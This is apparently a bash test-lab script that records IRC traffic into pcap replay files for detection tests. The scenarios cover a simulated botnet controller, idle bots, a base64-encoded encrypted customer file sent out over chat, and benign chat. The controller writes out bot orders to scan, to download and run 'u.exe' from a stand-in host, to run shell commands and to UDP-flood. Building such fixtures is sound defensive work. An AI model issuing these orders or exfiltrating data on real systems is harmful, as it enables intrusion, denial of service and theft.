#!/bin/bash
# SPDX-License-Identifier: MIT
# chat.sh SCENARIO...|all|list: programs that are led over IRC, a file that leaves by it, and people who chat, by a real server
# between the namespaces of ns.sh, recorded at the gateway into tests/replay/<scenario>/input.pcap.
#
# Needs root and (Debian names): tcpdump python3 ngircd ii zip.
set -eu
export XFL_PREFIX=${XFL_PREFIX:-irc}
all=(irc_bot irc_herd irc_words benign_irc)
# shellcheck source=tests/lab/lab.sh
. "$(dirname "$0")/lab.sh"
far=203.0.113.24

prepare() {
    python3 "$here/customers.py" 600 >"$dir/customers.csv"
    (cd "$dir" && zip -q -P secret sealed.zip customers.csv)
}

network() { # port text...: a server with this message of the day
    local port=$1
    shift
    printf '[Global]\nName = irc.example.net\nInfo = %s\nListen = %s\nPorts = %s\nMotdPhrase = %s\n' "$*" "$far" "$port" "$*" >"$dir/ngircd.conf"
    printf 'ServerUID = root\nServerGID = root\n[Options]\nDNS = no\nIdent = no\nPAM = no\n[Limits]\nMaxNickLength = 24\nMaxConnectionsIP = 0\n' >>"$dir/ngircd.conf"
    bg ngircd "${srv[@]}" ngircd -n -f "$dir/ngircd.conf"
    sleep 1
}

talk() { # namespace... -- source port nick [bot], lines from standard input
    local -a where=()
    while [ "$1" != -- ]; do where+=("$1") && shift; done
    timeout 60 "${where[@]}" /usr/bin/python3 "$here/irc_talk.py" "$2" "$far" "${@:3}" || true
}

master() { # channel: who gives the orders, outside
    { echo "JOIN $1" && echo "TOPIC $1 :.advscan asn1smb 100 5 0 -b -r -s" && sleep 4
        echo "PRIVMSG $1 :.download http://203.0.113.24/u.exe c:\\u.exe 1" && sleep 2
        echo "PRIVMSG $1 :.sh id" && sleep 1.5 && echo "PRIVMSG $1 :.sh uname -a" && sleep 1.5
        echo "PRIVMSG $1 :.udp 203.0.113.99 5000 1024 100" && sleep 2; } | talk "${srv[@]}" -- $far "$2" herder &
}

irc_bot() { # one bot of Rbot's kind
    network 5051 x
    master '#loads' 5051
    pids+=($!)
    sleep 2.5
    { echo "JOIN #loads key" && sleep 12; } | talk "${cli[@]}" -- 10.20.1.10 5051 'DEU|XP|482913' bot
}
irc_herd() { # four hosts wait in one channel; nobody orders anything
    local n
    network 6667 x
    for n in 10 11 12 13; do
        { echo "JOIN #w" && sleep 6; } | talk "${cli[@]}" -- 10.20.1.$n 6667 "[USA|W7]5${n}31" bot &
        pids+=($!)
    done
    sleep 9
}
irc_words() { # an encrypted archive in base64, line by line
    network 6667 'Welcome. Be kind, no flooding.'
    { echo "JOIN #drop" && base64 -w 360 "$dir/sealed.zip" | while read -r line; do echo "PRIVMSG #drop :$line" && sleep 0.25; done; } |
        talk "${cli[@]}" -- 10.20.1.10 6667 marcus
}

say_all() { # channel, lines: what people write, one a second
    echo "JOIN $1"
    while read -r line; do sleep 1 && echo "PRIVMSG $1 :$line"; done
}
benign_irc() { # two who chat, a program that tells of builds, one that is asked about weather; ii idles
    network 6667 'Welcome to the Example network. Rules: https://irc.example.net/rules'
    printf '%s\n' 'morning all' '!weather Madrid' 'did you see http://203.0.113.20/notes/7?' '!title http://203.0.113.20/notes/7' \
        'I run 3 of 4 now' '!seen marta' 'update: fixed in 1.2.3' 'ok, scan the list and tell me' 'lunch?' 'yes' |
        say_all '#dev' | talk "${cli[@]}" -- 10.20.1.10 6667 marta_1984 &
    pids+=($!)
    printf '%s\n' '[core] marta pushed 3 commits to main: https://git.example.net/c/8f1' 'build 4711 passed in 4m12s' 'build 4712 failed: tests/unit' |
        say_all '#dev' | talk "${cli[@]}" -- 10.20.1.11 6667 buildbot &
    pids+=($!)
    printf '%s\n' 'Madrid: 14 C, clear' 'notes, page 7' 'marta was here 2 s ago' '!roll 2d6' '!quote add 12 30' |
        say_all '#dev' | talk "${srv[@]}" -- $far 6667 helper &
    pids+=($!)
    bg ii "${cli[@]}" ii -s $far -p 6667 -n lurker -i "$dir/ii"
    sleep 3
    echo '/j #dev' >"$dir/ii/$far/in" || true
    sleep 10
}

run_lab "$@"
